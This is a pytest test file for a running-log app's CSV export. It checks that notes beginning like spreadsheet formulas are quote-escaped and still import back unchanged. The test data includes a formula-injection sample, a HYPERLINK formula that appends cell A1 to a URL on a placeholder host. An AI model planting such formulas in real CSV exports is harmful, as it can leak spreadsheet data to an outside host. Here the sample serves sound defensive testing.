"""CSV export and spreadsheets: a note that starts like a formula (a Strava activity named
=HYPERLINK(...), say) must not run when runs.csv is opened in a spreadsheet, and the
guard against it must not change what glutetui's own import reads back."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import datetime, timedelta, timezone

import pytest

from glutetui import cli
from glutetui.services.export import MANIFEST
from glutetui.store.db import open_store
from glutetui.store.runs import add_run

NOW = datetime(2026, 11, 21, 10, 0, tzinfo=timezone.utc)
NOTES = ['=HYPERLINK("http://example.invalid/?q="&A1, "Strava")', "+1 felt easy", "-5 km tempo", "@SUM(A1:A9)",
         "\tindented", "\rcarriage", "'quoted already", "''=twice", "plain run", "", "a = b - c"]
GUARDED = {'=HYPERLINK("http://example.invalid/?q="&A1, "Strava")': '\'=HYPERLINK("http://example.invalid/?q="&A1, '
           '"Strava")', "+1 felt easy": "'+1 felt easy", "-5 km tempo": "'-5 km tempo",
           "@SUM(A1:A9)": "'@SUM(A1:A9)", "\tindented": "'\tindented", "\rcarriage": "'\rcarriage",
           "'quoted already": "''quoted already", "''=twice": "'''=twice"}


@pytest.fixture
def source(tmp_path):
    path = tmp_path / "source.db"
    db = open_store(path)
    for number, notes in enumerate(NOTES):
        add_run(db, started_at=NOW - timedelta(days=number + 1), distance_m=5000.0, duration_s=1500, rpe=None,
                notes=notes, aches=(), warmup_id=None, now=NOW)
    db.close()
    return path


def exported_notes(folder) -> list[str]:
    with (folder / "runs.csv").open(newline="", encoding="utf-8") as handle:
        return [row["notes"] for row in csv.DictReader(handle)]


def runs_of(path) -> list[tuple]:
    with sqlite3.connect(path) as conn:
        return conn.execute("SELECT * FROM runs ORDER BY id").fetchall()


def export_and_import_back(source, tmp_path, *options: str):
    out = tmp_path / "csv-out"
    assert cli.main(["export", "--db", str(source), "--format", "csv", "--out", str(out), *options]) == 0
    target = tmp_path / "target.db"
    assert cli.main(["import", "--db", str(target), "--config", str(tmp_path / "none.toml"), str(out)]) == 0
    return out, target


def test_text_a_spreadsheet_would_run_gets_a_quote_and_imports_back_exactly(source, tmp_path, capsys):
    out, target = export_and_import_back(source, tmp_path)
    by_start = dict(zip(reversed(NOTES), exported_notes(out)))  # the export lists the oldest run first
    assert by_start == {notes: GUARDED.get(notes, notes) for notes in NOTES}
    assert json.loads((out / MANIFEST).read_text())["formula_guard"] is True
    with (out / "runs.csv").open(newline="", encoding="utf-8") as handle:
        numbers = next(csv.DictReader(handle))
    assert (numbers["distance_m"], numbers["duration_s"]) == ("5000.0", "1500"), "numbers are never guarded"
    assert runs_of(target) == runs_of(source)


def test_no_safe_csv_writes_the_text_exactly_as_stored_and_imports_back_exactly(source, tmp_path, capsys):
    out, target = export_and_import_back(source, tmp_path, "--no-safe-csv")
    assert sorted(exported_notes(out)) == sorted(NOTES)
    assert json.loads((out / MANIFEST).read_text())["formula_guard"] is False
    assert runs_of(target) == runs_of(source)
